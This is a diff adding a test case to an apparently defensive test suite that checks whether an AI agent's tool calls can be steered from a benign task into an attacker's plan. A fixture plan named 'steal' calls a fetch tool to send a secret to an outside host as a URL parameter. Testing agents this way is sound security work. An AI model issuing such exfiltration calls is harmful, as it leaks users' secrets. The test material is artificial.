@@ -85,6 +85,24 @@ describe('judging an attack plan edited by the user', () => {
     },
   );
 
+  it('AGENT-42 a plan that lacks an argument which the warrant requires is completed', async () => {
+    const properties = { url: text, max: { type: 'integer' } };
+    const fetch = {
+      name: 'fetch',
+      description: 'fetch',
+      inputSchema: { type: 'object', properties, required: ['url'] },
+    };
+    const answer = await check([fetch, TOOLS[0] as object], {
+      task: {
+        sentence: '',
+        calls: [{ tool: 'fetch', args: { url: 'https://a.example/x', max: 5 } }],
+        variants: [],
+      },
+      plans: { steal: [{ tool: 'fetch', args: { url: 'https://a.example/?d=secret' } }] },
+    });
+    expect(reach(answer, 'shapes').steal).toBe('reachable');
+  });
+
   it('AGENT-42 a plan that differs from the task in two values is found by the search', async () => {
     const answer = await check(TOOLS, {
       task: TASK,
